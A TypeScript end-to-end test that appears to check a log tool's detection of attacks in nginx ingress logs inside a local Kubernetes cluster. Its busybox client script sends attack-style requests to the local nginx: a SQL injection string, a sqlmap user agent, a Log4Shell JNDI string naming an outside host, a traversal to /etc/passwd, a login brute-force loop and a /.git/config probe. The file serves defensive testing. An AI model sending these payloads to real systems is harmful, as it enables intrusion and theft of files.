import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { gzipSync } from 'node:zlib';
import { type ClusterHandle, clusterDown, clusterUp, loadImage } from '#tools/local-cluster';
import { bulwark, type CliResult } from './testing/cli-process.ts';
import { apply, kubectl } from './testing/cluster-access.ts';
import { until } from './testing/console-data.ts';
import { nginxImage, withoutNginx } from './testing/nginx-image.ts';
import { removeFolder, type ServerProcess, startServer, temporaryFolder } from './testing/server-process.ts';

/** A real nginx in a real cluster, asked for good and for bad: what its log says is in the store, and attacks are marked. */
const NAME = 'ingress-e2e';
const IMAGE = 'bulwark.local/nginx:e2e';
const skip = withoutNginx;

let cluster: ClusterHandle;
let server: ServerProcess;
let dataDir: string;

/** The log format of ingress-nginx. One of the two servers behind is not there: requests are tried again. */
const CONFIGURATION = `
daemon off; user root; worker_processes 1; pid /tmp/nginx.pid;
events {}
http {
  log_format upstreaminfo '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $request_length $request_time [$proxy_upstream_name] [$proxy_alternative_upstream_name] $upstream_addr $upstream_response_length $upstream_response_time $upstream_status $request_id';
  client_body_temp_path /tmp/a; proxy_temp_path /tmp/b; fastcgi_temp_path /tmp/c; uwsgi_temp_path /tmp/d; scgi_temp_path /tmp/e;
  upstream behind { server 127.0.0.1:81 max_fails=0; server 127.0.0.1:8081 max_fails=0; }
  server {
    listen 8080;
    access_log /dev/stdout upstreaminfo;
    set $proxy_upstream_name shop-web-80;
    set $proxy_alternative_upstream_name "";
    location / { proxy_pass http://behind; }
    location /login { return 401; }
    location /gone { return 404; }
    location /canary { set $proxy_alternative_upstream_name shop-web-canary-80; proxy_pass http://behind; }
  }
  server { listen 127.0.0.1:8081; access_log off; location / { return 200 "hello"; } }
}
`;

const CLIENT = [
  'until wget -q -O /dev/null http://127.0.0.1:8080/ready; do sleep 0.2; done',
  'get() { wget -q -O /dev/null -U "$2" "http://127.0.0.1:8080$1" || true; }',
  'for i in 1 2 3 4 5 6 7 8 9 10; do get "/items/$i" "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"; done',
  'get /canary/x curl/8.5.0',
  'get "/gone?id=1%27%20UNION%20SELECT%201,2--" curl/8.5.0',
  'get /gone sqlmap/1.8',
  'get "/gone?x=\\$\x7bjndi:ldap://198.51.100.7/a}" curl/8.5.0',
  'get "/a?f=../../../etc/passwd" "evil\\" \\"agent"',
  'for i in $(seq 1 25); do wget -q -O /dev/null --post-data a=b http://127.0.0.1:8080/login || true; done',
  'printf "\\026\\003\\001\\002\\n\\n" | nc -w 1 127.0.0.1 8080',
  'sleep 3600',
].join('\n');

const POD = `
apiVersion: v1
kind: Pod
metadata: { name: edge, namespace: shop, labels: { app: edge } }
spec:
  terminationGracePeriodSeconds: 0
  containers:
    - { name: controller, image: '${IMAGE}' }
    - { name: client, image: 'bulwark.local/busybox:1.35', command: [sh, -c, ${JSON.stringify(CLIENT)}] }
`;

before(async () => {
  if (skip !== false) return;
  dataDir = temporaryFolder();
  cluster = await clusterUp({ name: NAME });
  await loadImage(NAME, nginxImage(IMAGE, CONFIGURATION).archive);
  server = await startServer({ kubeconfig: cluster.kubeconfig, dataDir });
});
after(async () => {
  if (skip !== false) return;
  await server?.stop();
  removeFolder(dataDir);
  await clusterDown(NAME, {}, () => {});
});

async function cli(...args: readonly string[]): Promise<CliResult> {
  const result = await bulwark([...args, '--data-dir', dataDir]);
  assert.equal(result.code, 0, result.stderr);
  return result;
}

async function query(text: string): Promise<readonly Record<string, string>[]> {
  const { stdout } = await cli('logs', 'query', text, '--limit', '0', '--output', 'json');
  const lines = stdout.split('\n').filter((line) => line !== '');
  return lines.map((line) => JSON.parse(line) as Record<string, string>);
}

test('the log of a real nginx in a pod is read, and its attacks are marked', { skip }, async () => {
  const { body } = await server.api<{ clusters: { name: string }[] }>('GET', '/api/v1/clusters');
  const name = body.clusters[0]?.name ?? '';
  await cli(
    'logs',
    'source',
    'add',
    'edge',
    '--cluster',
    name,
    '-n',
    'shop',
    '-l',
    'app=edge',
    '--kind',
    'ingress',
  );
  await kubectl(cluster, ['create', 'namespace', 'shop']);
  await apply(cluster, POD);
  const rows = await until(
    'the requests of the client',
    () => query('{kind="ingress"} parse_error:=""'),
    (found) => found.some(({ status }) => status === '400') && found.length >= 40,
  );
  const items = rows.filter(({ url_template }) => url_template === '/items/{n}');
  assert.equal(items.length, 10);
  for (const row of items) {
    assert.deepEqual(
      [row['status'], row['device'], row['browser'], row['upstream'], row['client_ip']],
      ['200', 'desktop', 'Firefox', 'shop-web-80', '127.0.0.1'],
    );
  }
  assert.ok(
    rows.some(
      (row) => row['upstream_addr'] === '127.0.0.1:81, 127.0.0.1:8081' && row['upstream_status'] === '200',
    ),
    'no request was tried again',
  );
  const attacks = new Set(rows.flatMap(({ attack = '' }) => attack.split(',')));
  for (const attack of [
    'sql-injection',
    'scanner',
    'log4shell',
    'path-traversal',
    'brute-force',
    'tls-on-plain-port',
  ])
    assert.ok(attacks.has(attack), `${attack} is not among ${[...attacks].join()}`);
  assert.deepEqual(new Set(items.map(({ attack }) => attack)), new Set([undefined]));
  const canary = rows.find(({ url }) => url === '/canary/x');
  assert.equal(canary?.['upstream'], 'shop-web-canary-80');
});

test('lines are pushed, imported, and read offline, with the same result', { skip }, async () => {
  const line = (second: number, url: string) =>
    `192.0.2.7 - - [24/Nov/2026:10:42:0${second} +0000] "GET ${url} HTTP/1.1" 200 5 "-" "curl/8.5.0"`;
  const lines = [line(1, '/a/1'), 'nonsense \u001b[31m', line(2, '/a/2'), line(3, '/.git/config')].join('\n');
  const file = join(dataDir, 'access.log.gz');
  writeFileSync(file, gzipSync(lines));
  const parsed = await bulwark(['ingress', 'parse', file]);
  assert.equal(parsed.code, 1);
  assert.match(parsed.stderr, /4 lines, format combined\n.*1 lines were not read: 2\n/);
  assert.match(parsed.stdout, /ATTACK sensitive-file/);
  assert.ok(!parsed.stdout.includes('\u001b'));
  const imported = await cli('ingress', 'import', '--cluster', 'other', file);
  assert.match(imported.stdout, /4 records \(combined\), 1 of them not read/);
  const answer = await fetch(`${server.url}/api/v1/ingress/lines/other?source=http`, {
    method: 'POST',
    body: lines,
  });
  assert.equal(answer.status, 401);
  const rows = await query('{kind="ingress",cluster="other"}');
  assert.equal(rows.length, 4);
  assert.equal(rows.filter(({ url_template }) => url_template === '/a/{n}').length, 2);
  assert.equal(rows.find(({ parse_error }) => parse_error === 'format')?.['raw'], 'nonsense \u001b[31m');
});
